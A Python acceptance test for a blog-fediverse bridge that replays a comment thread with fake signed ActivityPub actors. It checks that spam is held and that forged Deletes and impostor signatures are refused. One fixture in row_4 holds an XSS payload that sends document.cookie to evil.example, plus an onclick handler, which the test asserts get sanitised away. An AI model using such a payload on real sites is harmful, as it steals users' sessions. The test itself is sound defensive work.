"""Acceptance: the comment section of "Ein Plädoyer für die Mitteilung", replayed from the
fediverse (``tests/data/talkabout/THREAD.md``, rows 1–4 and 6–9).

Every remote actor lives on a fake instance of its own (its own host name on loopback, its
own RSA key) and signs what it sends; the bridge runs its real inbox on 127.0.0.1 with a
real SQLite store, processes each activity with the real inbound handlers, and is then read
the way readers read it: the post's comment feeds (RSS and Atom), the post page, the
comment and linkback pages and the ``replies``/``likes``/``shares`` collections, all over
HTTP. The post is the one of the fixture feed, parsed by the bridge's own parser.
"""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import aiohttp
import feedparser
from aiohttp import web

from bridge.activitypub.articles import iso_time
from bridge.activitypub.urls import entry_slug
from bridge.backfeed.commentfeeds import THREAD_NS
from bridge.ingest.parse import parse_feed
from bridge.store.base import StoredEntry
from bridge.store.roles_backfeed import Comment
from bridge.store.sqlite import SQLiteStore
from tests.conftest import TALKABOUT, FakeClock
from tests.fakes import remote_notes as texts
from tests.fakes.inbox_bridge import InboxBridge, fake_key, running_bridge
from tests.fakes.instance import FakeInstance
from tests.fakes.instance_actors import AS_CONTEXT, PUBLIC, FakeActor
from tests.fakes.instance_server import FakeServer
from tests.fakes.resolver import MappingResolver
from tests.fakes.seed_backfeed import readers_app

Serve = Callable[[web.Application], Awaitable[str]]
AS_JSON = "application/activity+json"
POST_ID = "http://www.talkabout.de/?p=1234"
POST_URL = "http://www.talkabout.de/ein-pladoyer-fur-die-mitteilung/"
SHORT_TITLE = "„Ein Plädoyer für die Mitteilung…“"
BOOSTERS = 30
MENTIONERS = 3
LIKERS = 13


class FreshActor(FakeActor):
    """An account made minutes ago (its actor document says so)."""

    created: str = ""

    def document(self) -> dict[str, Any]:
        return {**super().document(), "published": self.created}


@dataclass
class Thread:
    """The bridge, the fake fediverse and the post they talk about."""

    bridge: InboxBridge
    server: FakeServer
    clock: FakeClock
    http: aiohttp.ClientSession
    resolver: MappingResolver
    pages: str
    post: StoredEntry
    actors: dict[str, FakeActor] = field(default_factory=dict)
    _key_slot: int = 100

    @property
    def article(self) -> str:
        return self.bridge.ctx.urls.article("talkabout", self.post.slug)

    def actor(self, username: str, name: str, *, fresh: bool = False) -> FakeActor:
        """A new account on an instance of its own, ``{username}.test``."""
        site = self.server.instance(f"{username.replace('_', '-')}.test", clock=self.clock)
        self.resolver.names[site.name] = ("127.0.0.1",)
        self._key_slot += 1
        key = fake_key(self._key_slot)
        if fresh:
            actor = FreshActor(site, username, key, f"/users/{username}", name)
            actor.created = iso_time(self.clock() - timedelta(minutes=30))
            site.actors[username] = actor
        else:
            actor = site.add_actor(username, name=name, key=key)
        self.actors[username] = actor
        return actor

    async def send(
        self, actor: FakeActor, activity: dict[str, Any], *, as_: FakeActor | None = None
    ) -> int:
        """POST ``activity`` to the shared inbox, signed by ``as_`` (default: ``actor``'s own
        key); run the inbound jobs; the status of the POST."""
        signer = as_ or actor
        site = signer.site
        assert isinstance(site, FakeInstance)
        status, _ = await site.send(signer, self.bridge.inbox(None), activity)
        await self.bridge.run_inbound()
        return status

    async def follow(self, actor: FakeActor) -> None:
        """``actor`` follows the blog (its server is known to the bridge from then on)."""
        site = actor.site
        assert isinstance(site, FakeInstance)
        assert await self.send(actor, site.follow(actor, self.bridge.actor())) == 202
        self.clock.advance(5)

    def note(
        self, actor: FakeActor, number: int, html: str, *, reply: bool = True
    ) -> dict[str, Any]:
        """A public Mastodon-shaped note by ``actor``, answering the post unless ``reply`` is
        False."""
        object_id = f"{actor.id}/statuses/{number}"
        return {
            "id": object_id,
            "type": "Note",
            "attributedTo": actor.id,
            "inReplyTo": self.article if reply else None,
            "content": html,
            "published": iso_time(self.clock()),
            "url": f"{actor.site.base}/@{actor.username}/{number}",
            "to": [PUBLIC],
            "cc": [actor.followers, self.bridge.actor()],
            "tag": [{"type": "Mention", "href": self.bridge.actor(), "name": "@talkabout"}],
        }

    def create(self, actor: FakeActor, note: dict[str, Any]) -> dict[str, Any]:
        return {
            "@context": AS_CONTEXT,
            "id": f"{note['id']}/activity",
            "type": "Create",
            "actor": actor.id,
            "to": note["to"],
            "cc": note["cc"],
            "object": note,
        }

    # reading what readers read

    def local(self, url: str) -> str:
        return self.pages + url.removeprefix(self.bridge.ctx.urls.base)

    async def get(self, url: str, accept: str = "text/html") -> tuple[int, bytes]:
        async with self.http.get(
            self.local(url), headers={"Accept": accept}, allow_redirects=False
        ) as response:
            return response.status, await response.read()

    async def feed(self, kind: str) -> tuple[Any, bytes]:
        url = self.bridge.ctx.urls.post_comments_feed("talkabout", self.post.slug, kind)
        status, body = await self.get(url)
        assert status == 200
        ET.fromstring(body)
        parsed = feedparser.parse(body)
        assert not parsed.bozo, parsed.get("bozo_exception")
        return parsed, body

    async def feed_ids(self) -> list[str]:
        rss, _ = await self.feed("rss")
        atom, _ = await self.feed("atom")
        ids = [entry.id for entry in rss.entries]
        assert ids == [entry.id for entry in atom.entries]
        return ids

    async def collection(self, name: str) -> dict[str, Any]:
        url = getattr(self.bridge.ctx.urls, name)("talkabout", self.post.slug)
        status, body = await self.get(url, AS_JSON)
        assert status == 200
        document: dict[str, Any] = json.loads(body)
        return document

    async def comment(self, object_id: str) -> Comment:
        found = await self.bridge.store.get_comment(object_id)
        assert found is not None, object_id
        return found

    def comment_page(self, comment: Comment) -> str:
        return self.bridge.ctx.urls.comment_page("talkabout", self.post.slug, comment.slug)


class Title(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.title, self._inside = "", False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag == "title"

    def handle_endtag(self, tag: str) -> None:
        self._inside = False

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.title += data


def title_of(body: bytes) -> str:
    return Title(body.decode()).title.replace("\u2068", "").replace("\u2069", "").strip()


@asynccontextmanager
async def talkabout(
    sqlite_store: SQLiteStore,
    http: aiohttp.ClientSession,
    resolver: MappingResolver,
    clock: FakeClock,
    serve: Serve,
) -> AsyncIterator[Thread]:
    parsed = parse_feed((TALKABOUT / "feed.rss").read_bytes(), url="http://www.talkabout.de/feed/")
    entry = next(e for e in parsed.entries if e.id == POST_ID)
    async with (
        running_bridge(sqlite_store, http, resolver, clock) as bridge,
        FakeServer() as server,
    ):
        blog = bridge.blogs["talkabout"]
        post = await bridge.store.save_entry(blog.id, entry, entry_slug(entry.id), clock())
        pages = await serve(readers_app(bridge.ctx))
        yield Thread(bridge, server, clock, http, resolver, pages, post)


async def test_talkabout_thread(
    sqlite_store: SQLiteStore,
    http: aiohttp.ClientSession,
    resolver: MappingResolver,
    clock: FakeClock,
    serve: Serve,
) -> None:
    async with talkabout(sqlite_store, http, resolver, clock, serve) as t:
        sebastian = await row_1(t)
        sean = await row_2(t)
        spam = await row_3(t)
        timo = await row_4(t)
        david = await row_6_and_9(t)
        await row_7(t)
        await row_8(t)
        await the_thread(t, sebastian, sean, spam, timo, david)


async def row_1(t: Thread) -> str:
    """A reply by Sebastian Keil becomes his comment on the post."""
    sebastian = t.actor("sebastiankeil", "Sebastian Keil")
    await t.follow(sebastian)
    note = t.note(sebastian, 1, texts.paragraphs(texts.SEBASTIAN))
    assert await t.send(sebastian, t.create(sebastian, note)) == 202
    comment = await t.comment(note["id"])
    assert comment.state == "published", comment.reasons
    assert comment.author.name == "Sebastian Keil"
    assert comment.author.profile_url == f"{sebastian.site.base}/@sebastiankeil"
    assert comment.entry_id == POST_ID
    assert comment.parent_id == t.article

    rss, _ = await t.feed("rss")
    atom, body = await t.feed("atom")
    for parsed in (rss, atom):
        assert [e.id for e in parsed.entries] == [note["id"]]
        assert parsed.entries[0].author == "Sebastian Keil"
    assert atom.entries[0].author_detail.href == f"{sebastian.site.base}/@sebastiankeil"
    reply_to = next(ET.fromstring(body).iter(f"{{{THREAD_NS}}}in-reply-to"))
    assert (reply_to.get("ref"), reply_to.get("href")) == (t.article, POST_URL)
    status, page = await t.get(t.comment_page(comment))
    assert status == 200
    assert title_of(page) == f"Sebastian Keil commented on {SHORT_TITLE}"
    assert page.index(POST_URL.encode()) < page.index(b"e-content") < 150 * 1024
    t.clock.advance(60)
    return str(note["id"])


async def row_2(t: Thread) -> str:
    """The same activity twice, then the same text again as a new note: one comment."""
    sean = t.actor("seankollak", "Sean Kollak")
    await t.follow(sean)
    note = t.note(sean, 2, texts.paragraphs(texts.SEAN))
    activity = t.create(sean, note)
    assert await t.send(sean, activity) == 202
    assert await t.send(sean, activity) in (200, 202)
    t.clock.advance(40)
    again = t.note(sean, 3, texts.paragraphs(texts.SEAN))
    assert await t.send(sean, t.create(sean, again)) == 202
    first, second = await t.comment(note["id"]), await t.comment(again["id"])
    assert first.state == "published"
    assert second.state == "duplicate"
    comments = await t.bridge.store.list_comments(
        t.bridge.blogs["talkabout"].id,
        entry_id=POST_ID,
        states=("published", "held", "duplicate", "spam"),
    )
    assert [c.object_id for c in comments if c.author.actor_id == sean.id] == [
        again["id"],
        note["id"],
    ]
    ids = await t.feed_ids()
    assert note["id"] in ids and again["id"] not in ids
    t.clock.advance(60)
    return str(note["id"])


async def row_3(t: Thread) -> str:
    """A fresh account on an unknown instance, off-topic with two links: spam, not shown."""
    spammer = t.actor("cellphonelookup", "cellphone lookup", fresh=True)
    links = "".join(f' <a href="{url}">{url}</a>' for url in texts.SPAM_LINKS)
    note = t.note(spammer, 4, texts.paragraphs(texts.SPAM, extra=links))
    assert await t.send(spammer, t.create(spammer, note)) == 202
    comment = await t.comment(note["id"])
    assert comment.state in ("held", "spam"), comment.reasons
    queue = await t.bridge.store.list_comments(
        t.bridge.blogs["talkabout"].id, states=("held", "spam")
    )
    assert [c.object_id for c in queue] == [note["id"]]
    assert note["id"] not in await t.feed_ids()
    status, _ = await t.get(t.comment_page(comment))
    assert status == 404
    t.clock.advance(60)
    return str(note["id"])


async def row_4(t: Thread) -> str:
    """A long reply with a link, a script and an event handler: link kept, the rest gone."""
    timo = t.actor("timo", "Timo Lommatzsch")
    await t.follow(timo)
    hostile = (
        f'<a href="{texts.TIMO_LINK}">{texts.TIMO_LINK}</a>'
        '<script>document.location="https://evil.example/?"+document.cookie</script>'
        '<span onclick="steal()">klick</span>'
    )
    note = t.note(timo, 5, texts.paragraphs(texts.TIMO, extra=hostile))
    assert await t.send(timo, t.create(timo, note)) == 202
    comment = await t.comment(note["id"])
    assert comment.state == "published", comment.reasons
    atom, _ = await t.feed("atom")
    content = next(e for e in atom.entries if e.id == note["id"]).content[0].value
    assert f'href="{texts.TIMO_LINK}"' in content
    assert content.count("<p>") >= 3
    for forbidden in ("<script", "document.cookie", "onclick", "steal()"):
        assert forbidden not in content
    status, page = await t.get(t.comment_page(comment))
    assert status == 200
    body = page.decode().split("</head>", 1)[1]
    assert f'href="{texts.TIMO_LINK}"' in body
    assert "<script" not in body and "onclick" not in body and "document.cookie" not in body
    t.clock.advance(60)
    return str(note["id"])


async def row_6_and_9(t: Thread) -> str:
    """David replies, edits, (someone forges a Delete and a reply in his name: refused),
    then deletes: the comment goes from the feed and its page answers 410."""
    david = t.actor("david_philippe", "David Philippe")
    mallory = t.actor("mallory", "Mallory")
    await t.follow(david)
    note = t.note(david, 6, texts.paragraphs(texts.DAVID))
    assert await t.send(david, t.create(david, note)) == 202
    assert (await t.comment(note["id"])).state == "published"
    assert note["id"] in await t.feed_ids()

    t.clock.advance(120)
    edited = {**note, "content": "<p>Nachtrag: der Dialog ist das Sahnehäubchen.</p>"}
    edited["updated"] = iso_time(t.clock())
    update = {**t.create(david, edited), "type": "Update", "id": f"{note['id']}#updates/1"}
    assert await t.send(david, update) == 202
    atom, _ = await t.feed("atom")
    entry = next(e for e in atom.entries if e.id == note["id"])
    assert "Sahnehäubchen" in entry.content[0].value and "Podcast" not in entry.content[0].value
    comment = await t.comment(note["id"])
    status, page = await t.get(t.comment_page(comment))
    assert status == 200 and "Sahnehäubchen".encode() in page

    # Row 9: a Delete of David's reply by someone else, and a reply signed with a key that
    # belongs to another actor, are refused, and nothing changes.
    before_feed = await t.feed_ids()
    before = await t.bridge.count("comments")
    forged_delete = {
        "@context": AS_CONTEXT,
        "id": f"{mallory.id}#delete/1",
        "type": "Delete",
        "actor": mallory.id,
        "object": note["id"],
    }
    status = await t.send(mallory, forged_delete)
    assert 400 <= status < 500
    impostor_note = t.note(david, 7, "<p>Ich nehme alles zurück.</p>")
    status = await t.send(david, t.create(david, impostor_note), as_=mallory)
    assert 400 <= status < 500
    assert await t.bridge.store.get_comment(impostor_note["id"]) is None
    assert (await t.comment(note["id"])).state == "published"
    assert await t.bridge.count("comments") == before
    assert await t.feed_ids() == before_feed

    t.clock.advance(120)
    delete = {
        "@context": AS_CONTEXT,
        "id": f"{note['id']}#delete",
        "type": "Delete",
        "actor": david.id,
        "object": {"id": note["id"], "type": "Tombstone"},
        "to": [PUBLIC],
    }
    assert await t.send(david, delete) == 202
    assert (await t.comment(note["id"])).state == "deleted"
    assert note["id"] not in await t.feed_ids()
    status, _ = await t.get(t.comment_page(comment))
    assert status == 410
    t.clock.advance(60)
    return str(note["id"])


async def row_7(t: Thread) -> None:
    """30 boosts and 3 mentions: 33 linkback pages titled with display names; an Undo of a
    boost withdraws its page (410)."""
    announces = []
    for number in range(BOOSTERS):
        booster = t.actor(f"booster{number}", f"Boosterin {number} Nirschl")
        activity = booster.activity("Announce", t.article, to=[PUBLIC], cc=[t.bridge.actor()])
        assert await t.send(booster, activity) == 202
        announces.append((booster, activity))
    for number in range(MENTIONERS):
        mentioner = t.actor(f"mentioner{number}", f"Erwähner {number}")
        await t.follow(mentioner)
        note = t.note(
            mentioner,
            100 + number,
            f'<p>Lesenswert: <a href="{POST_URL}">{POST_URL}</a></p>',
            reply=False,
        )
        assert await t.send(mentioner, t.create(mentioner, note)) == 202
    blog_id = t.bridge.blogs["talkabout"].id
    boosts = await t.bridge.store.list_reactions(blog_id, POST_ID, "boost")
    mentions = await t.bridge.store.list_reactions(blog_id, POST_ID, "mention")
    assert (len(boosts), len(mentions)) == (BOOSTERS, MENTIONERS)
    urls = t.bridge.ctx.urls
    titles = set()
    for reaction in boosts + mentions:
        status, page = await t.get(urls.linkback_page("talkabout", t.post.slug, reaction.slug))
        assert status == 200
        assert page.index(POST_URL.encode()) < 150 * 1024
        titles.add(title_of(page))
    assert len(titles) == BOOSTERS + MENTIONERS
    assert f"Boosterin 7 Nirschl boosted {SHORT_TITLE}" in titles
    assert f"Erwähner 2 mentioned {SHORT_TITLE}" in titles

    booster, announce = announces[0]
    withdrawn = next(r for r in boosts if r.activity_id == announce["id"])
    assert await t.send(booster, booster.undo(announce)) == 202
    status, _ = await t.get(urls.linkback_page("talkabout", t.post.slug, withdrawn.slug))
    assert status == 410
    shares = await t.collection("shares")
    assert shares["totalItems"] == BOOSTERS - 1
    assert announce["id"] not in shares["first"]["orderedItems"]


async def row_8(t: Thread) -> None:
    """13 likes, one withdrawn: the post shows 12, and so does the likes collection."""
    likes = []
    for number in range(LIKERS):
        liker = t.actor(f"liker{number}", f"Liker {number}")
        like = liker.activity("Like", t.article)
        assert await t.send(liker, like) == 202
        likes.append((liker, like))
    liker, like = likes[5]
    assert await t.send(liker, liker.undo(like)) == 202
    collection = await t.collection("likes")
    assert collection["totalItems"] == LIKERS - 1
    assert like["id"] not in collection["first"]["orderedItems"]
    assert len(collection["first"]["orderedItems"]) == LIKERS - 1
    status, page = await t.get(t.bridge.ctx.urls.post_page("talkabout", t.post.slug))
    assert status == 200
    assert b'<span class="like-count">12 likes</span>' in page


async def the_thread(
    t: Thread, sebastian: str, sean: str, spam: str, timo: str, david: str
) -> None:
    """What readers see at the end: three comments, newest first in the feeds, threaded
    per RFC 4685 in Atom; the post page and the collections agree."""
    expected = [timo, sean, sebastian]
    assert await t.feed_ids() == expected
    _, atom = await t.feed("atom")
    refs = [el.get("ref") for el in ET.fromstring(atom).iter(f"{{{THREAD_NS}}}in-reply-to")]
    assert refs == [t.article] * 3

    status, page = await t.get(t.bridge.ctx.urls.post_page("talkabout", t.post.slug))
    assert status == 200
    text = page.decode()
    assert "Ein Plädoyer für die Mitteilung: Mit. Anderen. Teilen." in text
    assert f'href="{POST_URL}"' in text
    assert '<span class="comment-count">3 comments</span>' in text
    assert f'<span class="boost-count">{BOOSTERS - 1} boosts</span>' in text
    assert f'<span class="mention-count">{MENTIONERS} mentions</span>' in text
    thread = text.split('id="comments"', 1)[1]
    assert thread.index("Sebastian Keil") < thread.index("Sean Kollak")
    assert thread.index("Sean Kollak") < thread.index("Timo Lommatzsch")
    assert "cellphone" not in text and "David Philippe" not in text

    replies = await t.collection("replies")
    assert replies["totalItems"] == 3
    assert replies["first"]["orderedItems"] == [sebastian, sean, timo]
    article_status, article = await t.get(t.article, AS_JSON)
    assert article_status == 200
    assert b'"replies"' in article and b'"likes"' in article and b'"shares"' in article
